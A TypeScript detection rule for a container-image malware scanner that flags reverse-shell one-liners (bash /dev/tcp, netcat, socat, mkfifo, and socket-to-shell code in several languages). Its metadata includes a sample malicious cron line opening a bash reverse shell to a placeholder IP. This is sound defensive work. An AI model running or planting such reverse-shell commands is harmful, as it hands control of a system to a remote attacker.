import type { TextDocument } from '../../core/text-document.js';
import { defineRule } from '../../core/rule.js';
import { isDocumentation, mayHoldMalware, spans } from './lib/malware.js';

/** Reverse-shell one-liners; each alternative is linear (bounded gaps, no nested quantifiers). */
const PATTERNS: ReadonlyArray<[RegExp, string]> = [
  [/\b(?:ba|z|k)?sh\s+-i\s*[>&]{1,2}\s*\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5}/g, 'interactive shell redirected to /dev/tcp'],
  [/(?:exec\s+\d+<>|0<&\d+|>&\s*)\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5}/g, 'shell wired to a /dev/tcp connection'],
  [/\bn(?:c|cat|etcat)\b[^\n|;]{0,100}\s-[ce]\s+\/bin\/(?:ba)?sh\b/g, 'netcat running a shell for the remote end'],
  [/\bmkfifo\s+\/tmp\/\S{1,64}[^\n]{0,120}\bn(?:c|cat)\s[^\n]{0,100}/g, 'named pipe between a shell and netcat'],
  [/\bsocat\b[^\n]{0,120}\bexec:['"]?(?:\/bin\/)?(?:ba)?sh\b[^\n]{0,80}\btcp(?:4|6)?:/gi, 'socat running a shell over TCP'],
  [
    /\bsocket\.socket\([^\n]{0,200}\.connect\(\([^\n]{0,200}(?:os\.dup2|pty\.spawn|subprocess\.call\(\[['"]\/bin\/(?:ba)?sh)/g,
    'Python socket wired to a shell',
  ],
  [/\bfsockopen\([^\n]{0,200}(?:exec|shell_exec|system|passthru|proc_open)\(['"]\/bin\/(?:ba)?sh/g, 'PHP socket wired to a shell'],
  [/\buse\s+Socket;[^\n]{0,300}exec\(["']\/bin\/(?:ba)?sh/g, 'Perl socket wired to a shell'],
  [/\bTCPSocket\.(?:new|open)\([^\n]{0,200}(?:exec|spawn|system)[\s(]{1,2}["']?\/bin\/(?:ba)?sh/g, 'Ruby socket wired to a shell'],
];
const HINTS = ['/dev/tcp', '/dev/udp', '/bin/sh', '/bin/bash', 'mkfifo', 'socat'];

export default defineRule<TextDocument>({
  meta: {
    id: 'IMG-0011',
    slug: 'image-reverse-shell',
    title: 'Reverse shell one-liner',
    severity: 'critical',
    scanner: 'malware',
    appliesTo: ['text'],
    frameworks: [{ id: 'mitre-atlas', control: 'AML.T0072' }],
    rationale:
      'A script, crontab or config that connects a shell to a remote host (`bash -i >& /dev/tcp/…`, `nc -e /bin/sh`, a Python or PHP socket wired to `/bin/sh`) hands the container to whoever listens at the other end. In an image it is a backdoor planted at build time; in a cron entry it calls home on a schedule.',
    remediation:
      'Do not run the image. Find the layer and build step that added the file (`location.image`), remove it, rebuild from trusted sources, and treat the build system and any credentials it held as compromised.',
    references: ['https://attack.mitre.org/techniques/T1059/004/', 'https://gtfobins.github.io/#+reverse%20shell'],
    examples: {
      bad: [{ path: 'etc/cron.d/update', content: '*/5 * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n' }],
      good: [{ path: 'etc/cron.d/logrotate', content: '0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n' }],
    },
  },
  check(doc, ctx) {
    if (isDocumentation(doc.file.path) || !mayHoldMalware(doc, ctx)) return;
    const text = doc.text;
    if (!HINTS.some((h) => text.includes(h))) return;
    const reported: Array<{ start: number; end: number }> = [];
    for (const [re, what] of PATTERNS) {
      for (const s of spans(text, re)) {
        // One finding per one-liner, whichever patterns see it.
        if (reported.some((r) => r.start < s.end && s.start < r.end)) continue;
        reported.push(s);
        ctx.report({ message: `Reverse shell: ${what}`, at: s, evidence: s.match.slice(0, 120) });
      }
    }
  },
});
